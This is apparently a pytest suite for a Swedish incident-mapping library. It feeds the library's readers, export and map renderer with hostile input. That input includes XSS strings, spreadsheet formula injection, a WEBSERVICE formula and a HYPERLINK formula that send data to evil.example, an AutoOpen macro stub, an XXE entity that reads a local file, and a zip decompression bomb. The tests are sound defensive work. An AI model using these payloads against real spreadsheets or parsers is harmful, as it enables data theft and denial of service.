"""Hostile input: the readers, the export and the map survive malicious strings, absurd coordinates and
broken or oversized Excel files — with clear errors and nothing executed.

Readers are tested through the public ``trygghet_geo.io.read_incidents`` / ``read_observations``; the map
through ``trygghet_geo.output.maps.make_map`` on a small hand-made Analysis.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import textwrap
import unicodedata
import zipfile
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from shapely.geometry import LineString, Point

from trygghet_geo import schema as s
from trygghet_geo.errors import InputError, TrygghetError
from trygghet_geo.io import read_incidents, read_observations
from trygghet_geo.output.privacy import MAX_TEXT_CHARS, prepare_export

DATA = Path(__file__).resolve().parent / "data"
PAYLOADS: list[str] = json.loads((DATA / "priv_xss_payloads.json").read_text(encoding="utf-8"))["payloads"]
HIDDEN = [
    "\x00",
    "\x1b",
    "\x7f",
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200b",
    "\ufeff",
]
X0, Y0 = 674_000.0, 6_580_000.0  # SWEREF 99 TM, central Stockholm

HOSTILE_TEXT = [
    *PAYLOADS[:20],
    "a\x00b\x00c",  # NUL
    "rad1\rrad2\x0bvt\x0cff\x1besc\x7fdel",  # control characters
    "\u202etxt.exe\u202c vanlig",  # right-to-left override
    "\u2066isolerad\u2069 \u200bnollbredd\ufeff",
    "Z" * 200_000,  # very long
    "Z-" * 100_000,  # one hyphenated "word" of 200,000 characters: a name pattern must not backtrack over it
    "O'" * 100_000,  # ... nor over apostrophes that could each start a name (O'Brien)
    "Anna Berg, " * 20_000,  # many capitalised words in a row
    "ä" * 50_000 + "<script>window.__xss=1</script>",
    "=cmd|' /C calc'!A0",  # spreadsheet formula injection
    '=HYPERLINK("http://evil.example/?x="&A1,"klick")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
LONE_SURROGATE = "fel\ud800kodad"  # a str that cannot even be encoded as UTF-8


def _incident_frame(texts: list[str]) -> pd.DataFrame:
    n = len(texts)
    return pd.DataFrame(
        dtype=object,
        data={
            "Ärendenummer": [f"5000-K{100000 + i}-24" for i in range(n)],
            "Brottstyp": ["Stöld"] * n,
            "Datum": [f"2024-03-{1 + i % 28:02d} 22:{i % 60:02d}" for i in range(n)],
            "Plats": texts,
            "Latitud": [f"59,{3300 + i}" for i in range(n)],
            "Longitud": [f"18,{600 + i}" for i in range(n)],
        },
    )


# --- readers: malicious strings -----------------------------------------------------------------------------


def test_readers_keep_every_row_with_hostile_text() -> None:
    df = _incident_frame(HOSTILE_TEXT)
    before = df.copy()
    g = read_incidents(df)
    pd.testing.assert_frame_equal(df, before)
    assert len(g) == len(df)
    assert set(g[s.STATUS]) <= set(s.STATUSES)
    assert (g[s.STATUS] == "ok").sum() == len(df)  # hostile text is no reason to drop a located row
    assert g.geometry.notna().all()


def test_observation_reader_keeps_hostile_notes_as_text() -> None:
    n = len(HOSTILE_TEXT)
    df = pd.DataFrame(
        {
            "Datum": ["2025-04-22"] * n,
            "Plats": ["Storgatan 1"] * n,
            "Kategori": ["Belysning"] * n,
            "Anteckning": HOSTILE_TEXT,
            "Åtgärdsförslag": list(reversed(HOSTILE_TEXT)),
        }
    )
    g = read_observations(df)
    assert len(g) == n
    notes = g[s.NOTE].tolist()
    for payload, note in zip(PAYLOADS[:20], notes[:20], strict=True):
        assert isinstance(note, str)
        assert payload.strip() in note or note.strip() in payload  # text, never interpreted


@settings(max_examples=40, deadline=None)
@given(
    texts=st.lists(
        st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=300), min_size=1, max_size=8
    )
)
def test_any_text_in_any_field_keeps_every_row(texts: list[str]) -> None:
    n = len(texts)
    df = pd.DataFrame(
        {"Datum": texts, "Plats": texts, "Kategori": texts, "Anteckning": texts, "Åtgärdsförslag": texts},
        dtype=object,
    )
    g = read_observations(df)
    assert len(g) == n
    assert set(g[s.STATUS]) <= set(s.STATUSES)


def test_csv_with_nul_bidi_and_long_fields(tmp_path: Path) -> None:
    df = _incident_frame(HOSTILE_TEXT)
    path = tmp_path / "fientlig.csv"
    df.to_csv(path, sep=";", index=False, encoding="utf-8")
    raw = path.read_bytes()
    assert b"\x00" in raw
    try:
        g = read_incidents(path)
    except InputError as exc:  # refusing is acceptable only with a message naming the file
        error = str(exc)
    else:
        error = None
    if error is not None:
        assert path.name in error
        return
    assert len(g) == len(df)
    assert g.geometry.notna().sum() == len(df)


def test_polisen_json_with_hostile_fields(tmp_path: Path) -> None:
    events = []
    gps = ["59.329324,18.068581", "inf,18", "1e309,18.0", "59.3", "<script>", "nan,nan", "59.3,18.0,1", ""]
    for i, payload in enumerate(PAYLOADS[:24]):
        events.append(
            {
                "id": 1000 + i,
                "datetime": "2023-03-25 22:44:44 +01:00",
                "name": f"25 mars 21:15, {payload}, Stockholm",
                "summary": payload,
                "url": f"javascript:{payload}",
                "type": payload if i % 3 == 0 else "Stöld",
                "location": {"name": payload, "gps": gps[i % len(gps)]},
            }
        )
    events.append(
        {
            "id": "<b>x</b>",
            "datetime": "\x00",
            "name": None,
            "summary": "Z" * 100_000,
            "type": "Rån",
            "location": {"name": "Stockholm", "gps": "59.33,18.06"},
        }
    )
    path = tmp_path / "polisen.json"
    path.write_text(json.dumps(events, ensure_ascii=False), encoding="utf-8")
    try:
        g = read_incidents(path)
    except InputError as exc:
        error = str(exc)
    else:
        error = None
        assert len(g) == len(events)
        located = g.geometry.notna()
        xy = np.column_stack([g.geometry[located].x, g.geometry[located].y])
        assert np.isfinite(xy).all()
    assert error is None, error


# --- readers: absurd coordinates ----------------------------------------------------------------------------

BAD_COORDS = [
    ("inf", "18"),
    ("-inf", "18"),
    ("nan", "18"),
    ("NaN", "NaN"),
    ("1e308", "1e308"),
    ("9" * 400, "18"),
    ("59,3", "1e400"),
    ("-1e309", "18"),
    ("59.3", "Infinity"),
    ("0x1p10", "18"),
    ("59,3,3", "18"),
    ("<script>", "18"),
    ("\x00", "18"),
    ("91", "181"),
    ("59", "181"),
    ("-91", "-181"),
]


@pytest.mark.parametrize("reader", [read_incidents, read_observations])
def test_non_finite_and_huge_coordinates_are_flagged_never_located(reader) -> None:
    n = len(BAD_COORDS)
    df = pd.DataFrame(
        {
            "Datum": [f"2024-03-{1 + i:02d}" for i in range(n)],
            "Brottstyp": ["Stöld"] * n,
            "Kategori": ["Belysning"] * n,
            "Plats": [f"Plats {i}" for i in range(n)],
            "Latitud": [a for a, _ in BAD_COORDS],
            "Longitud": [b for _, b in BAD_COORDS],
        }
    )
    g = reader(df)
    assert len(g) == n
    located = g.geometry.notna() & ~g.geometry.is_empty
    if located.any():
        xy = np.column_stack([g.geometry[located].x, g.geometry[located].y])
        assert np.isfinite(xy).all()
        assert (np.abs(xy[:, 0]) <= 180).all()
        assert (np.abs(xy[:, 1]) <= 90).all()
    # a row whose coordinates could not be used is never "ok" at a made-up place
    assert not (located & (g[s.STATUS] == "ok")).any()
    # "NaN" in both columns reads as no coordinates at all (the place text is then geocoded)
    assert (g[s.REASON].isin(["bad_coordinates", "outside_country", "duplicate", ""])).all()
    assert (g[s.REASON] == "bad_coordinates").sum() >= n - 2


def test_numeric_infinities_in_a_dataframe() -> None:
    df = pd.DataFrame(
        {
            "Brottstyp": ["Stöld"] * 4,
            "Datum": ["2024-01-01"] * 4,
            "Plats": list("abcd"),
            "Latitud": [np.inf, -np.inf, np.nan, 1e300],
            "Longitud": [18.0, 18.0, np.inf, -1e300],
        }
    )
    g = read_incidents(df)
    assert len(g) == 4
    assert g.geometry.isna().all()


# --- readers: oversized and malformed Excel files -----------------------------------------------------------


def _xlsx_parts(sheet_xml: bytes | str) -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/'
            '2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
            'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
            'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
            'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships"><sheets><sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": sheet_xml,
    }


def _write_zip(path: Path, parts: dict[str, bytes | str]) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = "</sheetData></worksheet>"


def _row(*cells: str) -> str:
    return "<row>" + "".join(f'<c t="inlineStr"><is><t>{c}</t></is></c>' for c in cells) + "</row>"


def _good_workbook(path: Path) -> Path:
    sheet = (
        SHEET_HEAD
        + _row("Datum", "Plats", "Kategori", "Anteckning")
        + _row("2025-04-22", "Storgatan 1", "Belysning", "&lt;script&gt;window.__xss=1&lt;/script&gt;")
        + SHEET_TAIL
    )
    return _write_zip(path, _xlsx_parts(sheet))


def test_hand_made_workbook_is_read(tmp_path: Path) -> None:
    g = read_observations(_good_workbook(tmp_path / "ok.xlsx"))
    assert len(g) == 1
    assert g[s.NOTE].iloc[0] == "<script>window.__xss=1</script>"


MALFORMED = {
    "empty.xlsx": b"",
    "random.xlsx": bytes(range(256)) * 40,
    "text.xlsx": b"Datum;Plats\n2025-04-22;Storgatan 1\n",
    "html.xlsx": b"<html><script>alert(1)</script></html>",
    "not_a_workbook.xlsx": None,  # a zip without the workbook parts
    "truncated.xlsx": None,  # the first half of a good workbook
    "no_sheet_xml.xlsx": None,  # workbook points at a missing sheet
}


@pytest.mark.parametrize("name", sorted(MALFORMED))
def test_malformed_excel_gives_a_clear_error(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    if name == "not_a_workbook.xlsx":
        _write_zip(path, {"hello.txt": "hej"})
    elif name == "truncated.xlsx":
        good = _good_workbook(tmp_path / "good.xlsx").read_bytes()
        path.write_bytes(good[: len(good) // 2])
    elif name == "no_sheet_xml.xlsx":
        parts = _xlsx_parts("")
        del parts["xl/worksheets/sheet1.xml"]
        _write_zip(path, parts)
    else:
        path.write_bytes(MALFORMED[name])
    with pytest.raises(InputError) as info:
        read_observations(path)
    assert name in str(info.value)


def test_formulas_and_macros_are_never_run(tmp_path: Path) -> None:
    formula_cells = (
        '<row><c t="inlineStr"><is><t>Datum</t></is></c><c t="inlineStr"><is><t>Plats</t></is></c>'
        '<c t="inlineStr"><is><t>Anteckning</t></is></c></row>'
        '<row><c t="inlineStr"><is><t>2025-04-22</t></is></c><c t="inlineStr"><is><t>Storgatan 1</t></is></c>'
        '<c><f>WEBSERVICE("http://evil.example/steal")</f></c></row>'
        '<row><c t="inlineStr"><is><t>2025-04-22</t></is></c><c t="inlineStr"><is><t>Storgatan 2</t></is></c>'
        "<c><f>cmd|' /C calc'!A0</f></c></row>"
    )
    parts = _xlsx_parts(SHEET_HEAD + formula_cells + SHEET_TAIL)
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b'Sub AutoOpen()\nShell "calc"\nEnd Sub' * 10
    path = _write_zip(tmp_path / "makro.xlsm", parts)
    marker = tmp_path / "ran"
    g = read_observations(path)  # sockets are blocked: a fetch would raise
    assert len(g) == 2
    assert not marker.exists()
    for note in g[s.NOTE]:
        assert note is None or (isinstance(note, float) and np.isnan(note)) or isinstance(note, str)


def test_external_entities_are_not_resolved(tmp_path: Path) -> None:
    secret = tmp_path / "hemlig.txt"
    secret.write_text("HEMLIGT-INNEHALL", encoding="utf-8")
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + _row("Datum", "Plats", "Anteckning")
        + _row("2025-04-22", "Storgatan 1", "&xxe;")
        + SHEET_TAIL
    )
    path = _write_zip(tmp_path / "xxe.xlsx", _xlsx_parts(sheet))
    try:
        g = read_observations(path)
    except InputError as exc:
        error = str(exc)
    else:
        error = None
    if error is not None:
        assert path.name in error
        return
    assert "HEMLIGT" not in g.to_string()


def _bomb(path: Path, *, n_rows: int) -> Path:
    """A small .xlsx whose sheet expands to hundreds of megabytes."""
    row = _row("2025-04-22", "Storgatan 1", "Belysning", "x" * 40)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in _xlsx_parts("").items():
            if name != "xl/worksheets/sheet1.xml":
                z.writestr(name, data)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            f.write((SHEET_HEAD + _row("Datum", "Plats", "Kategori", "Anteckning")).encode())
            chunk = (row * 10_000).encode()
            for _ in range(n_rows // 10_000):
                f.write(chunk)
            f.write(SHEET_TAIL.encode())
    return path


READ_IN_CHILD = textwrap.dedent("""
    import resource, sys
    resource.setrlimit(resource.RLIMIT_AS, (3 * 1024**3, 3 * 1024**3))
    from trygghet_geo.errors import InputError
    from trygghet_geo.io import read_observations
    try:
        g = read_observations(sys.argv[1])
    except InputError as exc:
        print("INPUTERROR", exc)
        sys.exit(3)
    print("READ", len(g))
""")


@pytest.mark.slow
def test_excel_decompression_bomb_is_refused_quickly(tmp_path: Path) -> None:
    path = _bomb(tmp_path / "bomb.xlsx", n_rows=1_500_000)  # ~195 MB of XML
    assert path.stat().st_size < 5_000_000
    with zipfile.ZipFile(path) as z:
        assert z.getinfo("xl/worksheets/sheet1.xml").file_size > 150_000_000
    env = {**os.environ, "PYTHONWARNINGS": "ignore"}
    try:
        proc = subprocess.run(
            [sys.executable, "-c", READ_IN_CHILD, str(path)],
            capture_output=True,
            text=True,
            timeout=15,
            env=env,
            check=False,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(
            f"reading a {path.stat().st_size / 1e6:.1f} MB workbook that expands to "
            ">150 MB ran for more than 15 s instead of being refused"
        )
    assert proc.returncode == 3, (proc.returncode, proc.stdout[-500:], proc.stderr[-2000:])
    assert "bomb.xlsx" in proc.stdout


# --- export and map -----------------------------------------------------------------------------------------


def test_export_cleans_hidden_characters_and_cuts_long_text() -> None:
    obs = gpd.GeoDataFrame(
        {s.NOTE: HOSTILE_TEXT, s.MEASURE: HOSTILE_TEXT, s.PLACE_TEXT: HOSTILE_TEXT},
        geometry=[Point(X0 + i, Y0) for i in range(len(HOSTILE_TEXT))],
        crs="EPSG:3006",
    )
    inc = gpd.GeoDataFrame({s.CATEGORY: ["stöld"]}, geometry=[Point(X0, Y0)], crs="EPSG:3006")
    out = prepare_export(inc, obs)
    for col in (s.NOTE, s.MEASURE, s.PLACE_TEXT):
        for text in out.observations[col]:
            assert len(text) <= MAX_TEXT_CHARS
            assert not any(h in text for h in HIDDEN)
            text.encode("utf-8")  # no lone surrogates left


@settings(max_examples=80, deadline=None)
@given(notes=st.lists(st.text(max_size=3000), min_size=1, max_size=5))
def test_exported_notes_are_always_clean_and_bounded(notes: list[str]) -> None:
    obs = gpd.GeoDataFrame(
        {s.NOTE: pd.Series(notes, dtype=object)},
        geometry=[Point(X0 + i, Y0) for i in range(len(notes))],
        crs="EPSG:3006",
    )
    inc = gpd.GeoDataFrame({s.CATEGORY: ["stöld"]}, geometry=[Point(X0, Y0)], crs="EPSG:3006")
    for text in prepare_export(inc, obs).observations[s.NOTE]:
        assert len(text) <= MAX_TEXT_CHARS
        assert not any(
            unicodedata.category(c) in ("Cc", "Cf", "Cs", "Co") and c not in "\t\n\r" for c in text
        )
        text.encode("utf-8")


def _hostile_analysis(notes: list[str], *, category: str = "belysning"):
    from trygghet_geo.analysis import Analysis
    from trygghet_geo.network import network_from_lines

    lines = [LineString([(X0, Y0 + 50 * i), (X0 + 300, Y0 + 50 * i)]) for i in range(4)]
    net = network_from_lines(gpd.GeoDataFrame({"name": ["Gata"] * 4}, geometry=lines, crs="EPSG:3006"))
    n = len(notes)
    obs = gpd.GeoDataFrame(
        index=range(n),
        data={
            s.OCCURRED_AT: pd.Timestamp("2025-04-22", tz="Europe/Stockholm"),
            s.CATEGORY: category,
            s.NOTE: pd.Series(notes, dtype=object),
            s.MEASURE: pd.Series(notes, dtype=object),
            s.PLACE_TEXT: pd.Series(notes, dtype=object),
            s.STATUS: "ok",
        },
        geometry=[Point(X0 + 2 * i, Y0 + 10) for i in range(n)],
        crs="EPSG:3006",
    )
    pts = [Point(X0 + 10 + i % 5, Y0 + 10) for i in range(12)]
    pts += [Point(np.inf, Y0), Point(np.nan, np.nan), Point(1e300, -1e300), None, Point(-np.inf, np.inf)]
    m = len(pts)
    inc = gpd.GeoDataFrame(
        index=range(m),
        data={
            s.OCCURRED_AT: pd.Timestamp("2025-03-01", tz="Europe/Stockholm"),
            s.CATEGORY: "stöld",
            s.STATUS: "ok",
            s.PRECISION: "exact",
            s.HOTSPOT_ID: -1,
            s.CLUSTER: -1,
        },
        geometry=pts,
        crs="EPSG:3006",
    )
    empty = gpd.GeoDataFrame({s.HOTSPOT_ID: []}, geometry=[], crs="EPSG:3006")
    assert m == len(inc)
    return Analysis(
        incidents=inc,
        observations=obs,
        hotspots=empty,
        places=empty,
        network=net,
        meta={"title": "Test", "synthetic": True},
    )


def test_map_survives_hostile_text_and_coordinates() -> None:
    from trygghet_geo.output.maps import make_map

    notes = [t for t in HOSTILE_TEXT if "{{" not in t]
    html = make_map(_hostile_analysis(notes), self_contained=True).get_root().render()
    # the payloads reach the page only inside the JSON data, where "<" is written \u003c
    assert "<script>window.__xss" not in html
    assert "<img src=x onerror" not in html
    for h in ("\x00", "\u202e", "\u2066", "\ufeff"):
        assert h not in html
    assert len(html.encode("utf-8")) < 3_000_000  # 200 000-character notes are cut, not copied


def test_map_survives_coordinates_that_are_all_bad() -> None:
    from trygghet_geo.output.maps import make_map

    a = _hostile_analysis(["ok"])
    a.incidents = a.incidents.iloc[12:]
    html = make_map(a, self_contained=True).get_root().render()
    clean = make_map(_hostile_analysis(["ok"]), self_contained=True).get_root().render()
    # the vendored Leaflet mentions NaN/Infinity in its code; the data and the view must add none
    for token in (r"\bNaN\b", r"\bInfinity\b", r"\b1e\+?300\b"):
        assert len(re.findall(token, html)) == len(re.findall(token, clean)), token


@pytest.mark.parametrize("where", ["note", "incident_category", "observation_category"])
def test_template_syntax_in_user_text_is_never_evaluated(where: str) -> None:
    """Jinja2 syntax typed into a note must reach the map as text, not be run while the map renders."""
    import jinja2

    from trygghet_geo.output.maps import make_map

    # evaluated, the probe would print JINJAEVALUATED: upper case, so no random element id or number holds it
    probe = "{{ 'JINJA' ~ 'EVALUATED' }}{% if true %}X{% endif %}{# c #}"
    a = _hostile_analysis(["vanlig text"] if where != "note" else [probe])
    if where == "incident_category":
        a.incidents[s.CATEGORY] = probe
    elif where == "observation_category":
        a.observations[s.CATEGORY] = probe
    try:
        html = make_map(a, self_contained=True).get_root().render()
    except jinja2.TemplateError as exc:
        pytest.fail(f"user text reached the Jinja2 template engine ({where}): {exc!r}")
    assert "JINJAEVALUATED" not in html, f"user text was evaluated as a Jinja2 template ({where})"


def test_export_and_map_accept_empty_geometries() -> None:
    from trygghet_geo.output.maps import make_map

    a = _hostile_analysis(["ok"])
    a.incidents.loc[a.incidents.index[-1], "geometry"] = Point()
    a.observations.loc[a.observations.index[0], "geometry"] = Point()
    out = prepare_export(a.incidents, a.observations)
    assert out.counts["no_location"] == 5
    make_map(a, self_contained=True).get_root().render()


def test_lone_surrogates_do_not_crash_the_reader() -> None:
    texts = pd.Series(["Storgatan 1", LONE_SURROGATE], dtype=object)
    df = pd.DataFrame(
        {"Datum": ["2025-04-22"] * 2, "Plats": texts, "Kategori": ["Belysning"] * 2, "Anteckning": texts},
        dtype=object,
    )
    try:
        g = read_observations(df)
    except InputError as exc:
        error = str(exc)
    else:
        error = None
        assert len(g) == 2
    assert error is None or "Anteckning" in error or "Plats" in error


def test_lone_surrogates_do_not_crash_export_or_map() -> None:
    from trygghet_geo.output.maps import make_map

    a = _hostile_analysis(["ok", LONE_SURROGATE])
    out = prepare_export(a.incidents, a.observations)
    assert out.observations[s.NOTE].iloc[1] == "felkodad"
    make_map(a, self_contained=True).get_root().render().encode("utf-8")


def test_read_errors_are_trygghet_errors(tmp_path: Path) -> None:
    with pytest.raises(TrygghetError):
        read_incidents(tmp_path / "finns_inte.csv")
